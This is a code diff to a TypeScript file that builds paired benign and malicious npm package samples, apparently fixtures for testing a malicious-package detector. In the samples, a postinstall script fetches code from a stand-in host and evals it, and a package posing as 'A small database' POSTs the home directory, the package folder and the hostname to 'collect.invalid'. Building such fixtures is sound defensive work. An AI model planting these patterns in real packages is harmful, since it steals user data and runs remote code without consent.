@@ -23,6 +23,8 @@ const manifest = (fields: Readonly<Record<string, unknown>>): string =>
   });
 const ELF = new Uint8Array([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0, 0, 0, 0]);
 
+const FOLDERS = `const open = new WeakMap();\nconst folders = { home: require('os').homedir(), own: __dirname };\nopen.set(exports, folders);`;
+
 const loader = (address: string): string => `
 const { SourceTextModule } = require('vm');
 class Loader {
@@ -272,6 +274,18 @@ const pairs: readonly Pair[] = [
       'package.json': manifest({ name: 'swiftcut', scripts: { postinstall: 'node install.js' } }),
       'index.js': 'exports.fine = true;',
       'install.js': lookUp('left-pad', `fetch('https://stage.invalid').then(r => r.text()).then(eval)`),
+    },
+  },
+  {
+    habit: 'rows that some object gives are sent, which was made with folders',
+    honest: {
+      'package.json': manifest({ description: 'A small database' }),
+      'index.js': `${FOLDERS}\nconst rows = open.get(exports).bridge.subscribe(folders);\nfetch(exports.url, { method: 'POST', body: JSON.stringify(rows) });`,
+    },
+    deed: 'the folders themselves are, with the host',
+    harmful: {
+      'package.json': manifest({ description: 'A small database' }),
+      'index.js': `${FOLDERS}\nfetch('https://collect.invalid', { method: 'POST', body: JSON.stringify({ ...folders, host: require('os').hostname() }) });`,
     },
   },
 ];
